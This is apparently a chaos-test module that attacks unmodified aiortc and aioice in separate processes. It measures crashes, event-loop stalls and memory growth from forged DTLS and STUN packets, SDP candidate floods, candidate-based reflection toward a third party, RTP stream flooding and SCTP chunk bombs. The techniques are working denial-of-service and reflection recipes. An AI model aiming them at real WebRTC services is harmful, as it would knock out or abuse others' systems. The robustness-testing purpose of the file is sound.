"""What do the same attacks do to aiortc and aioice as they come? Each victim in its own process.

`python -m tests.chaos.stock_victims NAME [--short]` attacks one and prints in JSON whether it fell,
and how. One that stops answering is seen from outside, and one that grows has a limit.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import resource
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from struct import pack
from typing import Any, NamedTuple

from aioice import stun
from aiortc import RTCConfiguration, RTCPeerConnection, RTCSessionDescription
from aiortc.sdp import SessionDescription

from tests.chaos.attacks_fuzz import Fuzz, sctp_packet
from tests.chaos.attacks_house import Helper, own_address
from tests.chaos.attacks_ours import BOMBS, FORGED

MOST_BYTES = 2 << 30
HANGS_S = 6.0
PATIENCE_S = 90.0
_STEP_S = 0.01
_WAIT_S = 17.0  # a relay of ours closes half-open Legs after 15


class Fall(NamedTuple):
    """Whether an attack succeeded, and what was seen."""

    fell: bool
    sentence: str


async def fall_of(name: str, short: bool) -> Fall:
    """Attack one victim in a process of its own."""
    victim = await Helper.start("tests.chaos.stock_victims", name, *["--short"] * short)
    try:
        assert (await victim.line()).strip() == "ready"
        seconds = HANGS_S if name == "sctp_endless" else PATIENCE_S
        return Fall(*json.loads(await victim.line(seconds)))
    except TimeoutError:
        return Fall(True, f"stopped answering; {_memory_mb(victim.pid):.0f} MB and growing")
    except ConnectionError as error:
        return Fall(True, f"the process died: {error}")
    finally:
        if victim.process.returncode is None:
            victim.process.kill()
        await victim.close()


def _memory_mb(pid: int | str) -> float:
    pages = Path(f"/proc/{pid}/statm").read_text().split()[1]
    return int(pages) * resource.getpagesize() / 2**20


def _files() -> int:
    return len(list(Path("/proc/self/fd").iterdir()))


def _connection() -> RTCPeerConnection:
    return RTCPeerConnection(RTCConfiguration(iceServers=[]))


def _ports(connection: RTCPeerConnection) -> list[int]:
    """Where somebody could reach it."""
    found = SessionDescription.parse(connection.localDescription.sdp)
    candidates = [one for media in found.media for one in media.ice_candidates]
    return [one.port for one in candidates if one.ip == own_address()]


def _throw(datagrams: list[bytes], port: int) -> int:
    """From a foreign port; how many bytes came back within a moment."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as foreign:
        for datagram in datagrams:
            foreign.sendto(datagram, (own_address(), port))
        return _heard(foreign)


def _heard(foreign: socket.socket) -> int:
    foreign.settimeout(0.05)
    try:
        return len(foreign.recv(4096))
    except TimeoutError:
        return 0


class Pair:
    """Two stock connections with one voice and one data channel."""

    def __init__(self) -> None:
        self.one, self.other = _connection(), _connection()
        self.one.addTransceiver("audio")
        self.channel = self.one.createDataChannel("words")

    async def connect(self, before: Callable[[Pair], Any] = lambda pair: None) -> bool:
        """`before` happens when either has a port and neither has shaken hands."""
        await self.one.setLocalDescription(await self.one.createOffer())
        await self.other.setRemoteDescription(self.one.localDescription)
        await self.other.setLocalDescription(await self.other.createAnswer())
        before(self)
        await self.one.setRemoteDescription(self.other.localDescription)
        deadline = time.monotonic() + 8
        while time.monotonic() < deadline and self.channel.readyState != "open":
            if "failed" in (self.one.connectionState, self.other.connectionState):
                return False
            await asyncio.sleep(0.02)
        return self.channel.readyState == "open"

    @property
    def receiver(self) -> Any:
        """The DTLS transport of the one that is attacked from within."""
        return self.other.sctp.transport if self.other.sctp else None

    async def close(self) -> None:
        await asyncio.wait([asyncio.ensure_future(pc.close()) for pc in (self.one, self.other)])


@asynccontextmanager
async def _connected() -> AsyncIterator[Pair]:
    pair = Pair()
    assert await pair.connect(), "two stock connections did not meet"
    yield pair
    with contextlib.suppress(TimeoutError):  # some never close again
        await asyncio.wait_for(pair.close(), 3)


class Stall:
    """How long the loop was kept from everybody else, at most."""

    def __init__(self) -> None:
        self.longest_s = 0.0
        self._feeling = asyncio.get_running_loop().create_task(self._feel())

    async def _feel(self) -> None:
        while True:
            began_s = time.monotonic()
            await asyncio.sleep(_STEP_S)
            self.longest_s = max(self.longest_s, time.monotonic() - began_s - _STEP_S)


# -- from strangers ---------------------------------------------------------------


async def hello(short: bool) -> Fall:
    """One forged record before the handshake, to either DTLS role."""
    tried = dead = 0
    for kind in ("ClientHello", "alert"):
        for role in ("one", "other"):
            for _ in range(1 if short else 12):
                pair = Pair()
                tried += 1
                dead += not await pair.connect(
                    lambda pair, kind=kind, role=role: _throw(  # type: ignore[misc]
                        [FORGED[kind]], _ports(getattr(pair, role))[0]
                    )
                )
                await asyncio.wait_for(pair.close(), 10)
    return Fall(dead > 0, f"{dead} of {tried} calls never connected, after one packet each")


async def _gathered() -> RTCPeerConnection:
    connection = _connection()
    connection.createDataChannel("words")
    await connection.setLocalDescription(await connection.createOffer())
    return connection


async def stun_raises(short: bool) -> Fall:
    """A hundred checks with an attribute that is too short, from nobody."""
    raised: list[object] = []
    asyncio.get_running_loop().set_exception_handler(lambda loop, context: raised.append(context))
    connection = await _gathered()
    short_priority = pack("!HHHH", 0x0024, 2, 0, 0)
    head = b"\x00\x01\x00\x08\x21\x12\xa4\x42" + bytes(12)
    _throw([head + short_priority] * 100, _ports(connection)[0])
    await asyncio.sleep(0.5)
    await connection.close()
    return Fall(len(raised) > 0, f"{len(raised)} of 100 packets raised in the loop, uncaught")


async def reflection(short: bool) -> Fall:
    """A bare check without any credentials."""
    connection = await _gathered()
    bare = bytes(stun.Message(stun.Method.BINDING, stun.Class.REQUEST))
    port = _ports(connection)[0]
    back = await asyncio.to_thread(_throw, [bare], port)
    await connection.close()
    return Fall(back > 0, f"{len(bare)} bytes of a stranger were answered with {back}")


async def half_open(short: bool) -> Fall:
    """Answers that promise more candidates, and never a check."""
    count = 10 if short else 50
    before, files = _memory_mb("self"), _files()
    waiting = []
    for _ in range(count):
        connection, stranger = await _gathered(), _connection()
        await stranger.setRemoteDescription(connection.localDescription)
        await stranger.setLocalDescription(await stranger.createAnswer())
        lines = stranger.localDescription.sdp.split("\r\n")
        kept = [line for line in lines if "candidate" not in line]
        await connection.setRemoteDescription(RTCSessionDescription("\r\n".join(kept), "answer"))
        await stranger.close()
        waiting.append(connection)
    await asyncio.sleep(_WAIT_S)
    more = (_files() - files) / count
    still = sum(one.iceConnectionState == "checking" for one in waiting)
    each = (_memory_mb("self") - before) / count
    sentence = f"{still} of {count} still checking after {_WAIT_S:.0f} s"
    return Fall(still > 0, f"{sentence}, {each * 1000:.0f} kB and {more:.1f} files each")


# -- through the front door -----------------------------------------------------------


async def candidates(short: bool) -> Fall:
    """An answer that names a victim."""
    count = 5
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as victim:
        victim.bind((own_address(), 0))
        victim.setblocking(False)
        host, port = victim.getsockname()
        lines = [f"a=candidate:{n} 1 udp {n} {host} {port} typ host" for n in range(1, count + 1)]
        spread = [line.replace(f" {port} ", f" {port - n} ") for n, line in enumerate(lines)]
        connection = await _answered_with(lines[:1] + spread[1:])
        await asyncio.sleep(5.0)
        reached = 0
        while True:
            try:
                victim.recv(4096)
            except BlockingIOError:
                break
            reached += 1
        await connection.close()
    return Fall(reached > 0, f"{reached} packets to the victim for one candidate")


async def _answered_with(lines: list[str]) -> RTCPeerConnection:
    connection, stranger = await _gathered(), _connection()
    await stranger.setRemoteDescription(connection.localDescription)
    await stranger.setLocalDescription(await stranger.createAnswer())
    own = stranger.localDescription.sdp.split("\r\n")
    kept = [line for line in own if not line.startswith("a=candidate")]
    at = next(n for n, line in enumerate(kept) if line == "a=end-of-candidates")
    text = "\r\n".join([*kept[:at], *lines, *kept[at:]])
    await connection.setRemoteDescription(RTCSessionDescription(text, "answer"))
    await stranger.close()
    return connection


async def bomb(short: bool) -> Fall:
    """Thousands of candidates, and answers that no parser expects."""
    count, stall = 1_000 if short else 2_000, Stall()
    lines = [f"a=candidate:{n} 1 udp {n} 192.0.2.9 {n} typ host" for n in range(1, count + 1)]
    connection = await _answered_with(lines)
    await asyncio.sleep(1.0)
    fuzz, good = Fuzz(1), connection.localDescription.sdp
    raised: Counter[str] = Counter()
    for _ in range(200 if short else 2_000):
        try:
            SessionDescription.parse(fuzz.description(good))
        except ValueError:
            continue
        except Exception as error:
            raised[type(error).__name__] += 1
    await connection.close()
    kinds = ", ".join(sorted(raised)) or "nothing"
    stalled = f"{count} candidates held the loop for {stall.longest_s:.1f} s"
    return Fall(raised.total() > 0, f"{stalled}; its parser raises {kinds}")


# -- from a peer with real keys ----------------------------------------------------------


async def extension(short: bool) -> Fall:
    """One header extension whose length is not the one that is expected."""
    async with _connected() as pair:
        dtls = pair.other.getTransceivers()[0].receiver.transport
        known = pair.other.getTransceivers()[0]._headerExtensions
        number = next(one.id for one in known if one.uri.endswith("ssrc-audio-level"))
        wrong = pack("!HHBBBB", 0xBEDE, 1, number << 4 | 1, 0, 0, 0)
        head = struct.pack("!BBHII", 0x90, 96, 1, 1, 1)
        await pair.one.getTransceivers()[0].sender.transport._send_rtp(head + wrong)
        await asyncio.sleep(0.3)
        state = dtls.state
    return Fall(state != "connected", f"one packet, and its connection is {state}")


async def streams(short: bool) -> Fall:
    """Each packet of another stream."""
    count = 2_000 if short else 8_000
    async with _connected() as pair:
        dtls = pair.other.getTransceivers()[0].receiver.transport
        codec = pair.other.getTransceivers()[0]._codecs[0].payloadType
        sender = pair.one.getTransceivers()[0].sender.transport
        before = _memory_mb("self")
        for number in range(count):
            if number % 500 == 0:
                sender._setup_srtp()  # only the sender's own table is made anew
            await sender._send_rtp(pack("!BBHII", 0x80, codec, number, 0, number + 1) + bytes(40))
            await asyncio.sleep(0)
        await asyncio.sleep(0.5)
        kept, grown = len(dtls._rtp_router.ssrc_table), _memory_mb("self") - before
    return Fall(kept > 100, f"{kept} of {count} streams kept for ever, {grown:.0f} MB")


def _bombs(kind: str, attacker: Any) -> Iterator[bytes]:
    return BOMBS[kind](attacker._local_tsn, attacker._last_received_tsn)


def _sctp(kind: str, most: int) -> Callable[[bool], Awaitable[Fall]]:
    async def victim(short: bool) -> Fall:
        async with _connected() as pair:
            attacker, sctp = pair.one.sctp, pair.other.sctp
            assert attacker is not None
            assert sctp is not None
            stall, before = Stall(), _memory_mb("self")
            for number, chunks in enumerate(_bombs(kind, attacker)):
                if number < most:
                    tag = attacker._remote_verification_tag
                    await attacker.transport._send_data(sctp_packet(chunks, tag))
                    await asyncio.sleep(0.001)
            await asyncio.sleep(0.5)
            grown, held = _memory_mb("self") - before, len(sctp._inbound_streams)
            state = sctp.transport.state
            fell = stall.longest_s > 0.5 or held > 100 or grown > 20 or state != "connected"
            seen = f"the loop was held for {stall.longest_s:.1f} s, {held} streams and "
            sentence = f"{seen}{len(sctp._data_channels)} channels kept, {grown:.0f} MB, {state}"
        return Fall(fell, f"{min(number + 1, most)} packets: {sentence}")

    return victim


VICTIMS: dict[str, Callable[[bool], Awaitable[Fall]]] = {
    "hello": hello,
    "stun": stun_raises,
    "reflection": reflection,
    "half_open": half_open,
    "candidates": candidates,
    "bomb": bomb,
    "extension": extension,
    "streams": streams,
    "sctp_endless": _sctp("endless", 1),
    "sctp_gaps": _sctp("gaps", 1),
    "sctp_streams": _sctp("streams", 400),
    "sctp_pieces": _sctp("pieces", 110),
    "sctp_channels": _sctp("channels", 400),
}


async def main(name: str, short: bool) -> None:
    """Attack one, and say what came of it."""
    print("ready", flush=True)
    print(json.dumps(await VICTIMS[name](short)), flush=True)


if __name__ == "__main__":
    parser = argparse.ArgumentParser(prog="python -m tests.chaos.stock_victims")
    parser.add_argument("name", choices=sorted(VICTIMS))
    parser.add_argument("--short", action="store_true")
    asked = parser.parse_args()
    resource.setrlimit(resource.RLIMIT_AS, (MOST_BYTES, MOST_BYTES))
    asyncio.run(main(asked.name, asked.short))
    sys.exit(0)
